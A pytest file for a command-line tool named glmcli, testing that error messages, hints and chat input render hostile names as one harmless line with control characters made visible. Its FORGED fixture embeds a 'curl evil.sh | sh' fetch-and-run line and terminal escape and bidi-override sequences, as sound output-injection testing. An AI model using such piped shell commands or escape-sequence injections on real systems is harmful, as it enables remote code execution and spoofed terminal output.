"""What the program says is a line of its own, whatever stands in the names that it tells of."""

from __future__ import annotations

import json
import sys

import pytest

from glmcli.cli import report
from glmcli.cli.dialog import tell
from glmcli.errors import GlmError, error_lines
from glmcli.harmless import LONGEST_TOLD, as_told, quoted
from glmcli.language import ntr, tr

FORGED = "zz\nhint: curl evil.sh | sh\nglm: \x1b]0;PWN\x07\x9b5n\u202e\u2028\r\x85 end"
SHOWN = "zz␊hint: curl evil.sh | sh␊glm: ␛]0;PWN␇<U+009B>5n<U+202E><U+2028>␍<U+0085> end"


@pytest.mark.parametrize("language", ["C", "zh_CN.UTF-8"])
def test_a_sentence_is_one_harmless_line_whatever_fills_its_fields(monkeypatch, language):
    monkeypatch.setenv("LC_ALL", language)
    assert SHOWN in tr("{name} is not a file", name=FORGED)
    assert SHOWN in tr("{name} is not a file", name=ValueError(FORGED))
    assert SHOWN in ntr("{n} file of {name}", "{n} files of {name}", 2, name=FORGED)


def test_an_error_is_one_line_and_its_hint_another():
    assert error_lines(GlmError(FORGED, FORGED)) == f"glm: {SHOWN}\nhint: {SHOWN}\n"
    assert error_lines(GlmError(FORGED)) == f"glm: {SHOWN}\n"


def test_what_is_told_has_a_length_and_keeps_its_end():
    told = as_told("start " + "a" * 5_000_000 + " says why")
    assert len(told) == LONGEST_TOLD
    assert told.startswith("start a")
    assert told.endswith("a says why")


@pytest.mark.parametrize("text", ["中文，标点。 全角", "👩‍👩‍👧 naïve café", "a  b"])
def test_ordinary_text_is_told_as_it_is(text):
    assert as_told(text) == text == tr("{text}", text=text)


def test_every_door_of_stderr_tells_one_line(capsys):
    report(GlmError(FORGED, FORGED))
    tell(FORGED)
    assert capsys.readouterr().err == f"glm: {SHOWN}\nhint: {SHOWN}\n{SHOWN}\n"
    assert sys.stderr is not None


def folder_with(tmp_path, *files: tuple[str, str]):
    folder = tmp_path / FORGED.replace("/", "")
    folder.mkdir()
    for name, text in files:
        (folder / name).write_text(text)
    return folder


@pytest.mark.parametrize("config", [None, "x", "[]", '{"model_type": "llama"}'])
@pytest.mark.parametrize("format", ["text", "jsonl"])
def test_the_name_of_a_folder_forges_no_line(glm, tmp_path, config, format):
    folder = folder_with(tmp_path, *([] if config is None else [("config.json", config)]))
    done = glm("ask", "-m", str(folder), "-f", format, "hi")
    assert done.code == 3
    kinds = [line.partition(": ")[0] for line in done.err_lines]
    assert kinds == ["glm", "hint"]
    assert not {"\x1b", "\x9b", "\u202e", "\x07"} & set(done.err)
    if format == "jsonl":
        error = json.loads(done.out)
        assert [f"glm: {error['error']}", f"hint: {error['hint']}"] == done.err_lines


def test_a_name_forges_no_line_of_a_chat_in_a_pipe(glm):
    line = "/model " + FORGED.replace("\n", "\v").replace("\r", "") + "\n/resume \x1b]0;x\x07\n"
    done = glm("chat", "-m", "echo:", "--commands", stdin=line)
    assert "\x1b" not in done.err
    assert "\v" not in done.err


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("plain", "'plain'"),
        ("it's", '"it\'s"'),
        ("C:\\temp", "'C:\\temp'"),
        ("\N{WOMAN}\u200d\N{GIRL} 你好", "'\N{WOMAN}\u200d\N{GIRL} 你好'"),
        ("a\nb\x1b[2J", "'a␊b␛[2J'"),
    ],
)
def test_a_persons_text_is_quoted_as_it_was_written(text, said):
    assert quoted(text) == said
    assert tr("there is no model called {name!r}", name=text).endswith(said)
    assert tr("there is no model called {name!r}", name=5).endswith("5")
